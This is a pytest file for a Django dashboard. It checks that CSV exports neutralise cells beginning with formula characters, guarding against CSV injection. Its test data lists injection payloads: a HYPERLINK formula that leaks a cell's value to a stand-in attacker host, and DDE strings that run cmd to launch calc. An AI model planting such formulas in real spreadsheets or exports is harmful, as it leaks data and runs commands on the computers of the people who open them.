"""The dashboard's CSV exports never hand a spreadsheet a formula (OWASP CSV injection)."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from cop.dashboard import spreadsheet_safe
from tests.factories import CommunityFactory, ProblemFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_cells_that_start_a_formula_are_text(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Why is the build red?", "a=b", "", 3, -2, 0.5, "2026-01"])
def test_other_cells_are_unchanged(value):
    assert spreadsheet_safe(value) == value


def test_unanswered_problem_titles_are_neutralised_in_the_export(client):
    coordinator = UserFactory()
    community = CommunityFactory(coordinator=coordinator)
    asked = timezone.now() - timedelta(days=3)
    for title in FORMULAS[:4]:
        ProblemFactory(community=community, title=title, created_at=asked)
    client.force_login(coordinator)
    response = client.get(reverse("dashboard_csv", args=[community.slug, "knowledge-waiting"]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    titles = [row[0] for row in rows[1:]]
    assert sorted(titles) == sorted("'" + title for title in FORMULAS[:4])
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
